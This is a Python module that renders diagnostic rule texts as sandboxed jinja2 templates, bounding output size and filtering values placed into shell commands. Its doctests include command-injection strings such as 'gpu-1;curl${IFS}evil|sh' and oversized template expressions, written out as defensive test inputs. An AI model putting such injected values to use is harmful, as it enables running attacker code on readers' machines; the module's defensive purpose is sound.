"""Rule texts (explanations, remediation, collect commands) as sandboxed jinja2 templates.

Compiling a template costs about a millisecond, more than rendering it, and a run renders a
few dozen; so templates are named by the digest of their text and their compiled code is kept
in jinja2's bytecode cache on disk. Any change to a text is a new name. A text without template
syntax is its own rendering, and jinja2 is imported only when a text needs it: a run whose
findings are plain text does not pay for it."""

from __future__ import annotations

import functools
import hashlib
import re
from typing import Any

from analyzer.cache import cached_environment

SYNTAX = ("{{", "{%", "{#")


class TemplateProblem(Exception):
    """A rule text that does not render (jinja2's TemplateError, re-raised without needing
    jinja2 to catch it)."""


# what a value filled into a shell command may hold: words, paths, key=value, a jsonpath's
# escaped dot, a glob a reporter redacted with (`gpu-node-***`); never a quote, `;`, `|`, `&`,
# `$(`, a backtick, a redirection or a line break
_SHELL_WORD = re.compile(r"[A-Za-z0-9_.:/=@%+,~*?\[\]\\ -]*|\$[A-Z][A-Z_]*")
WITHHELD = "VALUE-NOT-SHELL-SAFE"


def shell_word(value: Any) -> Any:
    """A command's filled-in value, kept when it cannot change the command's meaning, else a
    plain word that makes the command fail: a node named `gpu-1;curl ...|sh` read from a bundle
    must not reach a fix the reader copies.

    >>> shell_word("gpu-node-1"), shell_word("$NODE"), shell_word(4)
    ('gpu-node-1', '$NODE', 4)
    >>> shell_word("gpu-1;curl${IFS}evil|sh"), shell_word("a'b"), shell_word("x\\ny")
    ('VALUE-NOT-SHELL-SAFE', 'VALUE-NOT-SHELL-SAFE', 'VALUE-NOT-SHELL-SAFE')
    """
    if isinstance(value, str) and not _SHELL_WORD.fullmatch(value):
        return WITHHELD
    return value


# the most a rule text's expression may build: above the longest line a capture can hold (1 MiB,
# lines are cut there), far below what hurts; a user's rule of `{{ node * 200000000 }}` or a
# chain of replace filters is an error
MAX_VALUE = 2_000_000


def _bounded(value: Any) -> Any:
    if isinstance(value, str | list | tuple | dict | range) and len(value) > MAX_VALUE:
        from jinja2.sandbox import SecurityError

        raise SecurityError(
            f"a value of {len(value):,} items (a text builds at most {MAX_VALUE:,})"
        )
    return value


# a printf width or precision that alone builds more than MAX_VALUE ("%999999999s")
_WIDE_FORMAT = re.compile(r"%[-+ #0]*\d{6,}|%[-+ #0]*\d*\.\d{6,}|\{[^{}]*:[^{}]*\d{6,}[^{}]*\}")


def _no_wide_format(value: Any) -> None:
    if isinstance(value, str) and _WIDE_FORMAT.search(value):
        from jinja2.sandbox import SecurityError

        raise SecurityError(f"a format of more than {MAX_VALUE:,} characters")


def _bounded_filter(f: Any) -> Any:
    """A filter whose result is bounded, and whose size arguments are (center, indent and
    wordwrap build what their width says before any result could be checked)."""

    @functools.wraps(f)  # keeps jinja2's pass_context/pass_environment marks
    def bounded(*args: Any, **kwargs: Any) -> Any:
        if formats and args:  # the format filter's value is the format; any other string is data
            _no_wide_format(args[0])
        for a in (*args, *kwargs.values()):
            if isinstance(a, int) and not isinstance(a, bool) and a > MAX_VALUE and sizes:
                _bounded(range(a))
        return _bounded(f(*args, **kwargs))

    sizes = f.__name__ in ("do_center", "do_indent", "do_wordwrap")
    formats = f.__name__ == "do_format"
    return bounded


def _sized(cls: type) -> type:
    """The sandbox with every operator and filter result bounded (`MAX_VALUE`), checked before
    anything larger is built where the size is known in advance (`*`, `**`)."""

    class Sized(cls):  # type: ignore[misc, valid-type]
        intercepted_binops = frozenset(("*", "**", "+", "%"))

        def call_binop(self, context: Any, operator: str, left: Any, right: Any) -> Any:
            if operator == "%":
                _no_wide_format(left)
            if operator == "*":
                n, seq = (left, right) if isinstance(left, int) else (right, left)
                if isinstance(seq, str | list | tuple) and isinstance(n, int):
                    _bounded(range(max(0, len(seq) * n)))
            if operator == "**" and isinstance(right, int | float) and abs(right) > 64:
                from jinja2.sandbox import SecurityError

                raise SecurityError(f"an exponent of {right} (at most 64)")
            return _bounded(super().call_binop(context, operator, left, right))

    Sized.__qualname__ = Sized.__name__ = f"Sized{cls.__name__}"
    return Sized


@functools.cache
def _environment(command: bool = False):
    from jinja2 import BaseLoader, StrictUndefined
    from jinja2.sandbox import SandboxedEnvironment

    class TextLoader(BaseLoader):
        def __init__(self) -> None:
            self.texts: dict[str, str] = {}

        def get_source(self, environment, template: str):
            return self.texts[template], None, lambda: True

    # a command's every {{ }} passes through shell_word (finalize sees each output)
    options: dict[str, Any] = {"finalize": shell_word} if command else {}
    env = cached_environment(
        _sized(SandboxedEnvironment),
        TextLoader(),
        autoescape=False,
        undefined=StrictUndefined,
        trim_blocks=True,
        lstrip_blocks=True,
        **options,
    )
    env.filters.update({name: _bounded_filter(f) for name, f in env.filters.items()})
    return env


@functools.lru_cache(maxsize=1024)
def template(text: str, command: bool = False):
    env = _environment(command)
    name = hashlib.sha256(text.encode()).hexdigest()
    env.loader.texts[name] = text
    return env.get_template(name)


def is_plain(text: str) -> bool:
    """True when jinja2 would give the text back as it is (no tags, no carriage returns, which
    it would turn into newlines).

    >>> is_plain("Restart the plugin."), is_plain("{{ node }} is down"), is_plain("a{#b#}")
    (True, False, False)
    """
    return "\r" not in text and not any(s in text for s in SYNTAX)


def render(text: str, **context: Any) -> str:
    return _render(text, False, context)


def render_command(text: str, **context: Any) -> str:
    """A shell command: every value it fills in is a shell word (`shell_word`)."""
    return _render(text, True, context)


def _render(text: str, command: bool, context: dict[str, Any]) -> str:
    if is_plain(text):
        return text.strip()
    from jinja2 import TemplateError

    try:
        return template(text, command).render(**context).strip()
    except TemplateError as exc:
        raise TemplateProblem(str(exc)) from exc
